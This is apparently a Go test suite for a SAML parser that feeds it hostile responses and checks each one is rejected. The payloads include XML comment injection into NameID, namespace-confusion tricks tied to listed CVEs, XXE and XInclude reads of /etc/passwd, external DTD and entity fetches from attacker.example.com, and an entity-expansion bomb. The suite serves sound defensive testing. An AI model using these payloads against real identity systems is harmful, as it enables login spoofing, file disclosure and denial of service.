package attacks_test

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"cognate/internal/federation/saml/samltest"
)

// rewrite changes the text of an answer with a signed assertion.
func rewrite(old, replacement string) func(*world) string {
	return func(w *world) string { return encode(w.replace(text(w.signedAssertion()), old, replacement)) }
}

// named signs an answer about another name, and then changes the text of the document.
func named(name, old, replacement string) func(*world) string {
	return func(w *world) string {
		response := w.response()
		nameOf(assertionOf(response)).SetText(name)
		w.idp.Sign(w, assertionOf(response))
		return encode(w.replace(text(response), old, replacement))
	}
}

func prefix(declaration string) func(*world) string {
	return func(w *world) string { return encode(declaration + text(w.signedAssertion())) }
}

// bomb nests entities (CAPEC-197).
func bomb() string {
	var b strings.Builder
	b.WriteString(`<!DOCTYPE x [<!ENTITY e0 "x">`)
	for i := range 20 {
		fmt.Fprintf(&b, `<!ENTITY e%d "&e%d;&e%d;">`, i+1, i, i)
	}
	b.WriteString("]>")
	return b.String()
}

func TestSAMLParser(t *testing.T) {
	t.Parallel()
	const (
		noDoctype = "a DOCTYPE or another declaration is not accepted"
		name      = "victim@example.com.evil.example"
	)
	run(t, []attack{
		{"15", "comment in the NameID", "comments are not accepted", named(name, name, victimName+"<!-- -->.evil.example")},
		{"15", "processing instruction in the NameID", "processing instructions are not accepted", named(name, name, victimName+"<?x?>.evil.example")},
		{"15", "comment in an attribute", "comments are not accepted", rewrite(attacker+"</saml:AttributeValue>", "attacker@<!-- -->example.com</saml:AttributeValue>")},
		{"15", "comment in the issuer", "comments are not accepted", rewrite("</saml:Issuer><samlp:Status>", "<!-- --></saml:Issuer><samlp:Status>")},
		{"16", "empty prefix (CVE-2020-29509)", "malformed name", rewrite("<saml:Subject>", `<saml:Subject :x="1">`)},
		{"16", "two colons (CVE-2020-29511)", "malformed name", rewrite("<saml:Subject>", `<saml::Subject/><saml:Subject>`)},
		{"16", "comment in a directive (CVE-2020-29510)", noDoctype, prefix("<!x<!-- -->>")},
		{"16", "DOCTYPE that parsers read differently (CVE-2025-25291)", noDoctype, prefix(`<!DOCTYPE x SYSTEM "x' [<!ELEMENT x ANY>">`)},
		{"16", "prefix of signatures that changes its namespace (CVE-2025-25292)", "neither the response nor the assertion is signed", rewrite(`<ds:Signature xmlns:ds="http://www.w3.org/2000/09/xmldsig#">`, `<ds:Signature xmlns:ds="urn:x" xmlns:dsig="http://www.w3.org/2000/09/xmldsig#">`)},
		{"16", "attribute of two prefixes for one namespace", "is repeated", rewrite(`<samlp:Response `, `<samlp:Response xmlns:y="urn:y" xmlns:z="urn:y" y:ID="a" z:ID="b" `)},
		{"16", "undeclared prefix", "is not declared", rewrite("<saml:Subject>", "<saml:Subject><none:x/>")},
		{"16", "second root", "something follows the root element", func(w *world) string { return encode(text(w.signedAssertion()) + text(w.signedAssertion())) }},
		{"16", "UTF-7", "only the encoding UTF-8 is supported", prefix(`<?xml version="1.0" encoding="UTF-7"?>`)},
		{"16", "UTF-16", "not UTF-8", func(w *world) string {
			var b bytes.Buffer
			b.WriteString("\xff\xfe")
			for _, c := range []byte(text(w.signedAssertion())) {
				b.Write([]byte{c, 0})
			}
			return encode(b.String())
		}},
		{"17", "DOCTYPE", noDoctype, prefix("<!DOCTYPE Response>")},
		{"17", "external entity", noDoctype, func(w *world) string {
			document := w.replace(text(w.signedAssertion()), attacker+"</saml:AttributeValue>", "&e;</saml:AttributeValue>")
			return encode(`<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>` + document)
		}},
		{"17", "parameter entity", noDoctype, prefix(`<!DOCTYPE x [<!ENTITY % e SYSTEM "https://attacker.example.com/e"> %e;]>`)},
		{"17", "external DTD", noDoctype, prefix(`<!DOCTYPE x SYSTEM "https://attacker.example.com/x.dtd">`)},
		{"17", "entities that grow", noDoctype, prefix(bomb())},
		{"17", "entity without a declaration", "unknown entity", rewrite("<saml:Subject>", "<saml:Subject>&e;")},
		{"17", "inclusion of a file", "the content was changed", rewrite("<saml:Subject>", `<saml:Subject><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>`)},
		{"17", "deep elements", "the elements are too deep", rewrite("<saml:Subject>", "<saml:Subject>"+strings.Repeat("<x>", 100)+strings.Repeat("</x>", 100))},
		{"17", "many elements", "too many elements", rewrite("<saml:Subject>", "<saml:Subject>"+strings.Repeat("<x/>y", 10_500))},
		{"17", "many attributes", "too many attributes", func(w *world) string {
			var b strings.Builder
			for i := range 100 {
				fmt.Fprintf(&b, ` a%d=""`, i)
			}
			return rewrite("<saml:Subject>", "<saml:Subject"+b.String()+">")(w)
		}},
		{"17", "long message", "the message is too long", func(w *world) string { return samltest.Encode(w.signedAssertion()) + strings.Repeat(" ", 100_000) }},
		{"17", "compressed message", "not UTF-8", func(w *world) string {
			var b bytes.Buffer
			c, err := flate.NewWriter(&b, flate.BestCompression)
			if err != nil {
				w.Fatal(err)
			}
			_, _ = c.Write([]byte(text(w.signedAssertion()) + strings.Repeat(" ", 1<<20)))
			_ = c.Close()
			return base64.StdEncoding.EncodeToString(b.Bytes())
		}},
		{"17", "not Base64", "the message is not Base64", func(*world) string { return "<Response/>" }},
		{"17", "nothing", "no element", func(*world) string { return "" }},
	})
}

// TestSAMLTextIsWhole has texts that are written in pieces. The identity has all of them, as
// the signature does.
func TestSAMLTextIsWhole(t *testing.T) {
	t.Parallel()
	const name = "victim@example.com.evil.example"
	w := newWorld(t, nil)
	for _, written := range []string{
		victimName + "<![CDATA[.evil.example]]>", "<![CDATA[" + victimName + "]]>.evil.example",
		"<![CDATA[victim]]><![CDATA[@example.com]]>.evil.example", "victim&#64;example.com&#x2E;evil.example",
	} {
		identity, err := w.send(named(name, name, written)(w))
		if err != nil || identity.Subject != name {
			t.Errorf("15 %s: %+v, %v", written, identity, err)
		}
	}
}

// TestSAMLIncludesNothing has an inclusion that the identity provider itself signed.
func TestSAMLIncludesNothing(t *testing.T) {
	t.Parallel()
	w := newWorld(t, nil)
	response := w.response()
	value := element(assertionOf(response), "AttributeStatement/Attribute/AttributeValue")
	value.SetText("")
	include := value.CreateElement("xi:include")
	include.CreateAttr("xmlns:xi", "http://www.w3.org/2001/XInclude")
	include.CreateAttr("href", "file:///etc/passwd")
	include.CreateAttr("parse", "text")
	w.idp.Sign(t, assertionOf(response))
	identity, err := w.send(samltest.Encode(response))
	if err != nil || identity.Claims["email"] != "" {
		t.Errorf("17 claims %v, %v", identity, err)
	}
}
